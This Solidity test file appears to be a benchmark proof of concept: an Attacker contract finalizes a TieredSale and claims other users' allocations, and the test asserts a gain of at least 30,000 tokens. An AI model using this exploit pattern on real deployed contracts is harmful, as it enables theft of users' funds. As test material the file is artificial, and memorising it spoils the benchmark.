// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    function run(TieredSale sale, address[] calldata accounts) external {
        sale.finalize();
        for (uint256 i = 0; i < accounts.length; i++) {
            sale.claim(accounts[i]);
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        address[] memory who = new address[](2);
        (who[0], who[1]) = (ANA, BO);
        vm.warp(START + 11 days);
        other.run(sale, who);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(other)) >= 30_000e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
